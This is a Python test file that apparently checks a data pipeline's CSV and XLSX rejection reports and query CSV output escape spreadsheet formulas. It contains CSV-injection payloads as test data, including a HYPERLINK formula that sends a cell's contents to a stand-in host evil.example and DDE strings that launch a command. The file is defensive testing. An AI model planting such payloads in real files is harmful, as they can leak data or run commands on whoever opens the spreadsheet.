"""A delivered value never becomes a live formula in a file a person opens: the providers'
rejection reports (CSV and XLSX, rendered from a real work lake) and `ioc sql --csv`."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

from openpyxl import load_workbook

from ioc_pipelines.core import state
from ioc_pipelines.core.query import QueryResult
from ioc_pipelines.reports.rejections import render_rejection_reports
from ioc_pipelines.reports.spreadsheet import csv_cell, formula_like
from ioc_pipelines.resources.lakes import connect, init_lakes
from ioc_pipelines.settings import load_settings

HOSTILE = {
    "full_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
    "address": "=cmd|' /C calc'!A0",
    "note": "+1+2",
    "commune_code": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "-2+3",
    "ward": "\t=1+1",
    "street": "\r=1+1",
    "household_size": "-12",  # a plain negative number stays a number
    "=evil_header": "x",  # a delivered column name is delivered text too
}


def test_formula_like_values():
    for value in HOSTILE.values():
        if value not in ("-12", "x"):
            assert formula_like(value), value
    assert not formula_like("-12") and not formula_like("+3,5") and not formula_like("Lê A")
    assert csv_cell("=1+1") == "'=1+1" and csv_cell(-5) == -5


def test_rejection_reports_carry_no_live_formula(ioc_home):
    settings = load_settings()
    init_lakes(settings)
    with connect(settings) as con:
        state.ensure(con)
        con.execute("CREATE SCHEMA IF NOT EXISTS work.validated")
        con.execute("CREATE SCHEMA IF NOT EXISTS work.raw")
        con.execute(
            "CREATE TABLE work.validated.feedback_records (provider_code VARCHAR, "
            "delivery_id VARCHAR, source VARCHAR, raw_table VARCHAR, delivery_date DATE, "
            "file_name VARCHAR, record_number BIGINT, reason_codes VARCHAR[], "
            "is_rejected BOOLEAN, reasons_vi VARCHAR, fixes_vi VARCHAR, delivered_values VARCHAR)")
        con.execute("INSERT INTO work.validated.feedback_records VALUES (?, ?, ?, ?, ?, ?, ?, "
                    "?, ?, ?, ?, ?)",
                    ["CA_TINH", "d1", "population", "population__citizens", date(2026, 11, 22),
                     "=evil.csv", 1, ["CCCD_FORMAT"], True, "Sai định dạng", "Sửa lại",
                     json.dumps(HOSTILE, ensure_ascii=False)])
        # the record as loaded, and the file's header as the provider wrote it
        names = ", ".join(f'"{k}" VARCHAR' for k in HOSTILE)
        con.execute(f"CREATE TABLE work.raw.population__citizens ({names}, _delivery_id VARCHAR, "
                    "_file VARCHAR, _record_number BIGINT, _invalid VARCHAR)")
        con.execute("INSERT INTO work.raw.population__citizens VALUES "
                    f"({', '.join('?' * (len(HOSTILE) + 4))})",
                    [*HOSTILE.values(), "d1", "=evil.csv", 1, None])
        state.record_columns(con, "d1", "landing/population/x.csv",
                             {"population__citizens": tuple((k, k) for k in HOSTILE)})
    [report] = render_rejection_reports(settings)
    folder = report.local_dir

    text = (folder / "d1.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if formula_like(c)], cells
    assert "'=cmd|' /C calc'!A0" in cells and "'=evil_header" in rows[0]
    assert "-12" in cells

    data = (folder / "d1.xlsx").read_bytes()
    book = load_workbook(io.BytesIO(data))
    shown = {cell.value: cell for row in book.active.iter_rows() for cell in row}
    for value in [*HOSTILE.values(), "=evil_header"]:
        if formula_like(value):
            # the provider sees what was sent (a lone CR stored as OOXML's escape, which Excel
            # reads back as the CR; openpyxl does not decode it) …
            cell = shown.get(value) or shown[value.replace("\r", "_x000D_")]
            assert cell.data_type == "s" and cell.quotePrefix, value  # … as text
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the workbook


def test_query_csv_is_inert():
    result = QueryResult(["name", "=x"], ["VARCHAR", "VARCHAR"], [("=1+1", "-3")], False)
    assert result.csv().splitlines() == ["name,'=x", "'=1+1,-3"]
